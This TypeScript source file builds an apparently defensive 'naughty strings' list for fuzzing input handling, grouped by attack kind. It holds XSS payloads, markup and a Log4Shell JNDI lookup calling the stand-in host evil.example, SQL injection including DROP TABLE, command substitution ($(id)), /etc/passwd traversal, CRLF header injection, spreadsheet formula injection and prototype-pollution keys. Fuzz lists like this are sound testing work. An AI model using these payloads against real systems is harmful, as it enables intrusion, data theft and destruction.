// Texts that have broken other programs, by the kind of attack. They are combined here, so that no combination is left out by chance.

/** Combines each text that ends a surrounding construct with each text that would do harm after it. */
function combined(ends: readonly string[], harms: readonly string[]): readonly string[] {
  return ends.flatMap((end) => harms.map((harm) => end + harm))
}

/** Returns a text around each character of these ranges. */
function around(...ranges: readonly (readonly [from: number, to: number])[]): readonly string[] {
  return ranges.flatMap(([from, to]) => Array.from({ length: to - from + 1 }, (_, at) => `a${String.fromCodePoint(from + at)}<b>`))
}

const KINDS = {
  markup: combined(
    [
      '',
      '">',
      "'>",
      '</title>',
      '</textarea>',
      '</select>',
      '</script>',
      '</style>',
      '-->',
      ']]>',
      '</td></tr></table>',
      '</pre></q>',
      '</span></dd></dl>',
    ],
    [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<iframe srcdoc="<script>alert(1)</script>">',
      '<a href="javascript:alert(1)">x</a>',
      '<base href=//evil.example>',
      '<meta http-equiv=refresh content=0;url=//evil.example>',
      '<form action=//evil.example><input name=password>',
      '<link rel=stylesheet href=//evil.example/x.css>',
      '<style>*{display:none}</style>',
    ],
  ),
  odd: `<ScRiPt>alert(1)</sCrIpT>|<script/x>alert(1)</script>|<script >|< script>|<\u0000script>|<scr<script>ipt>|<img/src=x/onerror=alert(1)>|<<b>>|<b
>|<!--<b>|<![CDATA[<i>]]>|<?xml version="1.0"?>|<!doctype x>|<math><mi xlink:href="javascript:alert(1)">|<svg><script>alert(1)</script>|<template><b>|<details open ontoggle=alert(1)>|<b id=main>|<input name=keys value=x>|<p data-live id=lead>|%3Cscript%3E|\\x3cscript\\x3e|\\u003cscript\\u003e|+ADw-script+AD4-|\u00bcscript\u00be|\uff1cscript\uff1e`.split(
    '|',
  ),
  attributes: combined(
    ['"', "'", '`', '', '" x="'],
    [
      ' onmouseover=alert(1)',
      ' autofocus onfocus="alert(1)',
      ' style="position:fixed',
      ' formaction=//evil.example',
      ' srcdoc="<b>',
      ' popover id=nav',
      ' href=javascript:alert(1)',
      '/onload=alert(1)//',
    ],
  ),
  entities: [
    '&lt;b&gt;',
    '&#60;b&#62;',
    '&#x3c;b>',
    '&amp;amp;',
    '&',
    '&&',
    '&nosuch;',
    '&#0;',
    '&lt',
    '&quot;',
    '&#39;',
    '&apos;',
    '&NewLine;',
    '&colon;',
  ],
  controls: around([0, 31], [127, 159]),
  hidden: around(
    [0xad, 0xad],
    [0x61c, 0x61c],
    [0x180e, 0x180e],
    [0x200b, 0x200f],
    [0x2028, 0x202e],
    [0x2060, 0x206f],
    [0xfeff, 0xfeff],
    [0xe0001, 0xe0001],
  ),
  spaces: around([0xa0, 0xa0], [0x1680, 0x1680], [0x2000, 0x200a], [0x202f, 0x202f], [0x205f, 0x205f], [0x3000, 0x3000]),
  broken: ['\ud800<b>', '<b>\udfff', '\udc00\ud800', '\ufffe<b>', '\uffff<b>', '\ufffd', 'e\u0301\u0301\u0301<b>', '\u0301<b>'],
  scripts:
    `Ω≈ç√∫˜µ|田中さんにあげて下さい|הָיְתָה testالصفحات|مُنَاقَشَةُ|ราชบัณฑิต|Ŧħē ŧëşŧ|ZALGO Z͑ͫ̓A͎͓͑|𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜|ﬀﬃ|ı İ ß ẞ|ǅ ǆ|😍 👩🏽 👾 🙇|👩‍👩‍👧‍👦|🇸🇪🇩🇰🇫🇮🇳🇴|1️⃣ 2️⃣|♂️|̡͓̞ͅI̗|¯\\_(ツ)_/¯|찦차를 타고|社會科學院|Приветъ|¡Hola, ñandú!|Ærøskøbing|Jyväskylä Ålesund|˙ɐnbᴉlɐ|①②③|Ⅷ`.split(
      '|',
    ),
  numbers:
    `0|-0|00|1|-1|+1|.5|5.|1.00|1e0|1e308|1e309|-1e309|1e-400|0x10|0b1|0o7|1_000|1,000|1 000|1/0|NaN|Infinity|-Infinity|٣|½|²|−1|999999999999999999999|2147483648|4294967296|9007199254740993|18446744073709551616|0.1+0.2|1;2|undefined|null|true|false|nil|None|[]|{}`.split(
      '|',
    ),
  templates:
    `%s%s%s|%n%n%n|%x|%d%p|{0}|{{7*7}}|\${7*7}|#{7*7}|<%= 7*7 %>|<?php echo 7*7 ?>|{% raw %}|[[7*7]]|@{7*7}|*{7*7}|~{7*7}|\${jndi:ldap://evil.example/x}|{{constructor.constructor('alert(1)')()}}|$(id)|\`id\`|; id|$HOME|%HOME%|$&$1$\`|\\0\\n\\x00`.split(
      '|',
    ),
  sql: `'|''|"|\\|\\'|--|/*|*/|';|1;DROP TABLE push|Robert'); DROP TABLE push;--|1' OR '1'='1|" OR ""="|%|_|%25|a%' AND 1=0--|' UNION SELECT NULL--|E'\\\\'|$$|$1|?|:name|@name|\\x00`.split(
    '|',
  ),
  paths:
    `.|..|../../etc/passwd|..\\..\\boot.ini|/etc/passwd|file:///etc/passwd|//evil.example|/\\evil.example|\\\\evil\\share|http:evil.example|https://evil.example/|javascript:alert(1)|data:text/html,<b>x</b>|%2e%2e%2f|%2F%2Fevil.example|%00|%0d%0aSet-Cookie: x=1|a/b|a?b=c|a#b|a;b|a b|CON|NUL|~|new|login|assets|live`.split(
      '|',
    ),
  lines: [
    'a\r\nSet-Cookie: x=1',
    'a\r\n\r\n<b>',
    'a\nb',
    '\r',
    '\n',
    'a\r\nLocation: //evil.example',
    '\u0085<b>',
    'event: changed\ndata: x\n\n',
    'a\tb',
    ' a ',
  ],
  formulas: ['=1+1', '@SUM(1)', '+1+1', '-1+1', '\t=1+1', '=cmd|x!A0', '=HYPERLINK("//evil.example")'],
  long: [
    'W'.repeat(60),
    'x'.repeat(5000),
    '<b>'.repeat(500),
    '&'.repeat(2000),
    '"'.repeat(1000),
    '\u0301'.repeat(500),
    '👩‍👩‍👧'.repeat(100),
    'a '.repeat(2000),
    '\n'.repeat(500),
  ],
  members: [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    'then',
    'toJSON',
    'length',
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>

export const NAUGHTY_STRINGS: readonly string[] = [...new Set(Object.values(KINDS).flat())]
